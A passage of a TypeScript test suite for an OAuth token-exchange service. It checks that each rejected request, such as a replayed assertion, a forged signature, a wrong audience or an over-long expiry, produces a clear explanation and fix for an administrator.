    'Set grant_type to one of grant_types_supported in the metadata, letter by letter: urn:ietf:params:oauth:grant-type:token-exchange for token exchange.',
  ],
  [
    'a client secret',
    ({ bureau }) =>
      bureau.token({ grant_type: 'client_credentials', client_id: 'a', client_secret: 'hunter2-hunter2' }),
    'The authentication of the client is client_secret; wanted is client_assertion. There are no client secrets here: send a client_assertion.',
    'Switch the client to private_key_jwt (`bureau keys generate ACCOUNT` makes the key), or present the token of its platform as client_assertion.',
  ],
  [
    'HTTP Basic',
    ({ bureau }) =>
      bureau.token(
        { grant_type: 'client_credentials' },
        {
          headers: {
            'content-type': 'application/x-www-form-urlencoded',
            authorization: 'Basic aHVudGVyMjpodW50ZXIy',
          },
        },
      ),
    'The authentication of the client is Authorization header (Basic); wanted is client_assertion. There are no client secrets here: send a client_assertion.',
    'Have the client send client_assertion in the body. In OAuth libraries that is the authentication method private_key_jwt, not client_secret_basic.',
  ],
  [
    'the client id of another account',
    async (w) => exchangeOf(w, github, { sub: production }, { form: { client_id: w.own.accountId } }),
    'client_id is ID; wanted is ID. Send the client id of the account the token is registered for, or none.',
    'Leave client_id out, or send the clientId of the account this token is registered with: ID.',
  ],
  [
    'own key: the audience is the URL of the token endpoint',
    (w) => signIn(w, { aud: `${w.bureau.baseIssuer}/token` }),
    'The audience (aud) is http://127.0.0.1:8080/token; wanted is http://127.0.0.1:8080, alone. The token is for the URL of an endpoint. The audience is the identifier alone, without the path of the endpoint. Send our issuer identifier, http://127.0.0.1:8080. For a client that cannot change, add its literal to assertionAudiences of the tenant.',
    'Have the client write that into aud when it signs. For one that cannot change, add what it writes to assertionAudiences in the settings of the tenant.',
  ],
  [
    'own key: an assertion for three days',
    (w) => signIn(w, { exp: now() + 259_200 }),
    'The expiry (exp) is TIME, 3 days from now; wanted is after TIME, at most TIME. Make the assertion right before it is sent and let it live a minute.',
    'Have the client set exp one minute after the moment it signs.',
  ],
  [
    'own key: the same assertion again',
    async (w) => {
      const form = doors[2]?.form(makeAssertion(w.own)) ?? {};
      await w.bureau.token(form);
      return w.bureau.token(form);
    },
    'The identifier of the token (jti) is ID; wanted is never used before. This token works once; make a new one with a fresh jti for each request.',
    'Make or fetch a new one for each request. A retry of the client, or two replicas that share a token, send it twice.',
  ],
  [
    'own key: no jti',
    (w) => signIn(w, { jti: undefined }),
    'The identifier of the token (jti) is absent; wanted is a string of 1 to 256 bytes. An assertion works once. Give each one a jti of its own, a UUID for example.',
    'Have whoever makes the token write it in. iss, sub, aud, iat and exp are always needed, and jti where a token works once.',
  ],
  [
    'own key: the library signs with PS256',
    (w) =>
      w.bureau.token(
        doors[2]?.form(
          forged({ alg: 'PS256', typ: 'JWT' }, { iss: w.own.accountId, sub: w.own.accountId }),
        ) ?? {},
      ),
    'The key of the assertion is no kid, alg PS256; wanted is an enabled key of the account that fits kid and alg. The keys of the account: KEY (ES256, enabled).',
    'Sign with a key that is enabled, or add the public key the client has: `bureau keys add own --file FILE`. A key is found by kid and alg.',
  ],
  [
    'own key: exchanged as a subject token',
    (w) => exchangeText(w, makeAssertion(w.own)),
    'The issuer (iss) is ID; wanted is the URL of an issuer. An assertion signed with the account key goes into client_assertion or assertion, not into subject_token.',
    'If it is an assertion with the key of an account, send it as client_assertion or assertion. If a platform made it, see there why its iss is not an https URL.',
  ],
  [
    'an audience the account does not have',
    (w) => exchangeOf(w, github, { sub: production }, { form: { audience: 'https://api.unknown.example' } }),
    'audience is https://api.unknown.example; wanted is one of http://127.0.0.1:8080. Ask for a registered audience or add this one to the account. It is who the new token is for, not the aud of the presented one.',
    'Ask for one of http://127.0.0.1:8080, or add the target to audiences of the service account: `bureau accounts update github-environment --token-audience TARGET`, with one --token-audience for each it shall have.',
  ],
  [
    'a scope in JSON',
    (w) => exchangeOf(w, github, { sub: production }, { form: { scope: '["certificates:read"]' } }),
    'scope is "[\\"certificates:read\\"]": with a character that no scope may have; wanted is scopes between single spaces (RFC 6749 3.3). This is JSON. scope is one text with a space between two scopes.',
    'Send the scopes with one space between them, as in scope=a b; no commas, quotes or brackets.',
  ],
];

/** What differs from run to run. */
const settle = (text: string): string =>
  text
    .replaceAll(world.cluster.issuer, 'https://cluster')
    .replaceAll(world.hasty.issuer, 'https://hasty')
    .replaceAll(world.bureau.issuer.issuer, 'https://issuer')
    .replaceAll(/\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ/g, 'TIME')
    .replaceAll(/[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}/g, 'ID')
    .replaceAll(/\b1\d{9}(\d{3})?\b/g, 'SECONDS')
    .replaceAll(/\b\d+ s ahead/g, 'N s ahead')
    .replaceAll(/[\w-]{43}(?= \()/g, 'KEY');

const read = async (make: Make) => {
  const answer = await make(world);
  expect(answer.status).toBeGreaterThanOrEqual(400);
  const { explanation } = await world.bureau.activity(answer.body.receipt);
  return {
    cause: settle(explanation.causes[0].sentence),
    change: settle(explanation.change),
    summary: settle(explanation.summary),
  };
};

describe.each([
  ['on the platforms', onPlatforms],
  ['with tokens', withTokens],
  ['with what was sent in their place', withTexts],
  ['with requests', withRequests],
])('mistakes %s: what an administrator reads', (_kind, mistakes) => {
  it.each(mistakes)('%s', async (_title, make, cause, change) => {
    const told = await read(make);
    expect(told).toMatchObject({ cause, change });
    expect(told.summary).not.toMatch(/\{(?:what|expected|presented|issuer|account)\}|undefined/);
  });
});

describe('beside a mistake, the same without it is granted', () => {
  it.each<[string, Make]>([
    ['GitHub', (w) => exchangeOf(w, github, { sub: production })],
    [
      'GitLab',
      (w) =>
        exchangeOf(w, gitlab, { sub: 'project_path:acme/app:ref_type:branch:ref:main', exp: now() + 3600 }),
    ],
    ['Kubernetes', (w) => clusterToken(w).then((token) => exchangeText(w, token))],
    ['EKS', (w) => exchangeOf(w, platforms.eks, { sub: 'system:serviceaccount:payments:api' })],
    ['an own key', (w) => signIn(w)],
  ])('%s', async (_title, make) => {
    expect((await make(world)).status).toBe(200);
  });
});

describe('what one key set or one tenant alone knows', () => {
  it('a key that was withdrawn', async () => {
    const token = await clusterToken(world);
    const [old] = world.cluster.keys;
    expect((await exchangeText(world, token)).status).toBe(200);
    await world.cluster.rotate({ keepOld: false });
    const { body } = await world.bureau.admin('GET', '/trusted-issuers?limit=100');
    const { id } = body.items.find(({ issuer }: { issuer: string }) => issuer === world.cluster.issuer);
    expect((await world.bureau.admin('POST', `/trusted-issuers/${id}/refresh`)).status).toBe(200);
    const { cause } = await read(async (w) =>
      exchangeText(w, await w.cluster.signToken({ sub: 'x' }, {}, old)),
    );
    expect(cause).toBe(
      'The key of the token is kid ID; wanted is one key of the issuer that fits the header. The key "ID" is not in the set. It was in the set before and was gone when the set was fetched at TIME: the issuer withdrew it, and tokens it signed are worth nothing now. The set was last fetched at TIME and has the key "ID". For an unknown key it is fetched again at TIME at the earliest.',
    );
  });

  it('A107 an issuer that nearly is one of another tenant is not told', async () => {
    const { bureau } = world;
    const { body } = await bureau.admin('POST', '/tenants', { name: 'other' });
    const own = ownKeyOf(body.credentials);
    const form = doors[2]?.form(makeAssertion(own)) ?? {};
    const { body: signedIn } = await bureau.token(form, { url: '/t/other/token' });
    const refused = await bureau.token(
      {
        grant_type: urn.tokenExchange,
        subject_token: await clusterToken(world, { iss: `${world.cluster.issuer}/` }),
        subject_token_type: urn.jwt,
      },
      { url: '/t/other/token' },
    );
    const story = await bureau.inject({
      method: 'GET',
      url: `/t/other/api/v1/activities/${refused.body.receipt}`,
      headers: { authorization: `Bearer ${signedIn.access_token}` },
    });
    expect(story.body.reason).toBe('issuer_unknown');
    expect(story.body.explanation.causes[0].sentence).not.toContain('Registered is');
  });
});
